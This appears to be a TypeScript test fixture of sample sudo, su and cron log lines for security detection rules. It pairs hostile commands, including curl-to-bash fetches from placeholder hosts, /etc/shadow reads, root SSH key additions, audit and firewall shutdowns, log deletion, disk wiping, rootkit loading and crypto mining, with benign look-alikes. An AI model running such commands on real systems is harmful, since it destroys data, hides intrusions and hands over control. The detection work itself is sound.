import type { Examples } from "./example.ts";
import { commands, lines, sudo } from "./log-line.ts";

const cron = (command: string, who = "root") => `CRON[951]: (${who}) CMD (${command})`;
const crontab = (what: string, who = "root") => `crontab[950]: (${who}) ${what} (${who})`;
const su = (text: string) => `su[992]: ${text}`;

/** What sudo, su and cron ran, or refused. */
export const LOGS_COMMAND_EXAMPLES: Examples = {
  "logs.sudo-refused": lines(
    sudo("/bin/ls", "eva", "command not allowed ; "),
    sudo("/bin/ls", "eva"),
  ),
  "logs.sudo-password-missed": lines(
    sudo("/bin/ls", "eva", "3 incorrect password attempts ; "),
    sudo("/bin/ls", "eva", "user NOT in sudoers ; "),
  ),
  "logs.su-refused-to-daemon": lines(
    su("FAILED SU (to root) tomcat on pts/1"),
    su("FAILED SU (to root) ann on pts/1"),
  ),
  "logs.su-refused": lines(su("FAILED SU (to root) ann on pts/1"), su("(to root) ann on pts/1")),
  "logs.root-shell-of-daemon": lines(
    su("pam_unix(su-l:session): session opened for user root by www-data(uid=33)"),
    su("pam_unix(su-l:session): session opened for user www-data by root(uid=0)"),
  ),
  "logs.root-shell": lines(sudo("/bin/bash"), sudo("/bin/bash /srv/app/deploy.sh")),
  "logs.root-shell-through-tool": commands("/usr/bin/vim -c :!sh", "/usr/bin/vim /srv/app/run.sh"),
  "logs.account-made-by-command": commands(
    "/usr/sbin/useradd -m eva",
    "/usr/sbin/useradd --system app",
  ),
  "logs.administrator-by-command": commands(
    "/usr/sbin/usermod -aG sudo eva",
    "/usr/sbin/usermod -aG video eva",
  ),
  "logs.password-by-command": commands("/usr/bin/passwd eva", "/usr/bin/passwd -S eva"),
  "logs.sudo-rules-by-command": commands("/usr/sbin/visudo", "/usr/sbin/visudo -c"),
  "logs.hashes-by-command": commands("/bin/cat /etc/shadow", "/bin/cat /etc/passwd"),
  "logs.hashes-written-by-command": commands(
    "/bin/cp /srv/shadow.new /etc/shadow",
    "/bin/cp /etc/shadow /srv/shadow.old",
  ),
  "logs.keys-by-command": commands(
    "/usr/bin/tee -a /root/.ssh/authorized_keys",
    "/bin/chmod 600 /root/.ssh/authorized_keys",
  ),
  "logs.guard-stopped-by-command": commands(
    "/usr/bin/systemctl stop auditd",
    "/usr/bin/systemctl restart auditd",
  ),
  "logs.enforcement-off-by-command": commands("/usr/sbin/setenforce 0", "/usr/sbin/setenforce 1"),
  "logs.enforcement-on-by-command": commands("/usr/sbin/setenforce 1", "/usr/sbin/setenforce 0"),
  "logs.audit-off-by-command": commands("/sbin/auditctl -e 0", "/sbin/auditctl -e 1"),
  "logs.firewall-off-by-command": commands("/sbin/iptables -F", "/sbin/iptables -L"),
  "logs.firewall-changed-by-command": commands(
    "/usr/sbin/ufw allow 8080/tcp",
    "/usr/sbin/ufw status",
  ),
  "logs.module-by-command": commands("/sbin/insmod /tmp/rk.ko", "/sbin/lsmod"),
  "logs.code-fetched-and-run": commands(
    "/bin/sh -c curl -s https://a.example/i.sh | bash",
    "/bin/sh -c curl -s https://a.example/i.sh | grep version",
  ),
  "logs.fetched-from-address": commands(
    "/usr/bin/wget http://203.0.113.9/a",
    "/usr/bin/wget http://10.1.0.3/a",
  ),
  "logs.run-from-open-folder": commands("/tmp/.x/run", "/usr/bin/ls /tmp/.x/run"),
  "logs.system-program-replaced": commands("/bin/cp /tmp/ls /bin/ls", "/bin/cp /bin/ls /tmp/ls"),
  "logs.network-scanned": commands("/usr/bin/nmap -sS 10.1.0.0/16", "/usr/bin/nmap-update"),
  "logs.network-listened": commands(
    "/usr/bin/tcpdump -i eth0 -w a.pcap",
    "/usr/bin/tcpdump --version",
  ),
  "logs.logs-removed-by-command": commands(
    "/bin/rm -rf /var/log/auth.log",
    "/bin/rm -rf /var/log/nginx/access.log.14.gz",
  ),
  "logs.history-cleared": commands("/bin/rm /root/.bash_history", "/bin/cat /root/.bash_history"),
  "logs.disk-overwritten": commands(
    "/bin/dd if=/dev/zero of=/dev/sda bs=1M",
    "/bin/dd if=/dev/zero of=/srv/swap bs=1M",
  ),
  "logs.system-removed": commands("/bin/rm -rf /etc", "/bin/rm -rf /etc/nginx/old.conf"),
  "logs.program-for-root-made": commands("/bin/chmod 4755 /srv/x", "/bin/chmod 0755 /srv/x"),
  "logs.immutability-changed": commands("/usr/bin/chattr -i /etc/passwd", "/usr/bin/lsattr /etc"),
  "logs.container-left": commands(
    "/usr/bin/docker run -v /:/host alpine",
    "/usr/bin/docker run -v /srv/app:/app web:3",
  ),
  "logs.schedule-by-command": commands("/usr/bin/tee /etc/cron.d/x", "/usr/bin/cat /etc/cron.d/x"),
  "logs.mined": commands("/opt/xmrig --donate-level 1", "/usr/bin/pkill xmrig"),
  "logs.mining-told": lines(
    "net[9]: use pool stratum+tcp://pool.example:3333",
    "git[9]: commit 31a5: block stratum+tcp://pool.example:3333",
  ),
  "logs.command-by-sudo": lines(
    sudo("/bin/ls"),
    "sudo: pam_unix(sudo:session): session closed for user root",
  ),
  "logs.schedule-of-daemon": lines(crontab("REPLACE", "www-data"), crontab("LIST", "www-data")),
  "logs.schedule-replaced": lines(crontab("REPLACE"), crontab("LIST")),
  "logs.schedule-removed": lines(crontab("DELETE"), crontab("REPLACE")),
  "logs.schedule-opened": lines(crontab("BEGIN EDIT"), crontab("LIST")),
  "logs.schedule-fetches-code": lines(
    cron("curl -s http://198.51.100.1/i.sh | sh"),
    cron("curl -s http://localhost/cron.php > /dev/null"),
  ),
  "logs.schedule-from-open-folder": lines(cron("/tmp/.x/run"), cron("find /tmp -mtime +7 -delete")),
};
